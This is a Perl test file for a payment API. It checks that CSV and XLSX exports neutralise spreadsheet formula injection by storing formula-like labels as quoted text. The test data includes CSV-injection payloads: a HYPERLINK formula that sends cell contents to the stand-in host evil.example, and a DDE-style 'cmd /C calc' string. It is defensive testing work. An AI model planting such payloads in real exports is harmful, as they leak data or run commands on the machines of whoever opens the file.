# CSV injection (OWASP): a text that a spreadsheet would run as a formula
# (=, +, -, @, a tab or a CR first) is exported with a "'" before it, in
# quotes; the XLSX has it as a string cell, never a formula.
use strict;
use warnings;
use Test::More;
use IO::Uncompress::Unzip qw(unzip $UnzipError);
use lib 't/lib';
use CvcTest;

client_ip('192.0.2.93');

my $conv = new_convention();
my $pos = new_pos($conv);
my $ben = new_beneficiary();
my $seller = merchant_login($pos->{id}, $pos->{password});

my @texts = ('=HYPERLINK("http://evil.example/?"&A1;"Voir")', '+33 6 12 34 56 78',
             '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', "\tTAB", '=1+1');
for my $i (0 .. $#texts) {
    my $r = api_as($seller->{token}, POST => '/api/v1/payment-requests',
                   { mode => 'immediate', amount => 1000 + $i,
                     basket_number => "FORM-$i-" . unique_digits(6),
                     customer => $ben->{id}, label => $texts[$i],
                     customer_reference => $i == 5 ? $texts[$i] : undef });
    is($r->{status}, 201, "a label $i that looks like a formula") or diag $r->{raw};
}

sub export {
    my ($format, $file) = @_;
    my $url = "$ENV{CVC_TEST_URL}/api/v1/payment-requests/export?format=$format";
    my $head = `curl -s -D - -o '$file' -H 'Authorization: Bearer $seller->{token}' '$url'`;
    return ($head =~ m{^HTTP/\S+ (\d+)})[0] // 0;
}
my $dir = "$ENV{CVC_TEST_DIR}/tmp";

is(export('csv', "$dir/f.csv"), 200, 'CSV: 200');
open my $fh, '<:raw:encoding(UTF-8)', "$dir/f.csv" or die;
my $csv = do { local $/; <$fh> };
for my $t (@texts) {
    (my $quoted = $t) =~ s/"/""/g;
    my $want = qq{;"'$quoted";};
    ok(index($csv, $want) >= 0, "CSV: ${\ ($t =~ s/\t/\\t/r)} neutralised as $want")
        or diag $csv;
}
unlike($csv, qr/;[=+\-\@\t]/, 'CSV: no field starts with a formula character');

is(export('xlsx', "$dir/f.xlsx"), 200, 'XLSX: 200');
my $sheet;
unzip("$dir/f.xlsx" => \$sheet, Name => 'xl/worksheets/sheet1.xml')
    or die "unzip: $UnzipError";
unlike($sheet, qr/<f[ >]/, 'XLSX: no formula in the sheet');
my $n = () = $sheet =~ /HYPERLINK/g;
is($n, 1, 'XLSX: the formula-like text is there once, as text');
like($sheet, qr/<c [^>]*t="(?:s|inlineStr|str)"[^>]*>(?:(?!<\/c>).)*=HYPERLINK/s,
     '... in a string cell') or diag substr($sheet, 0, 2000);

done_testing;
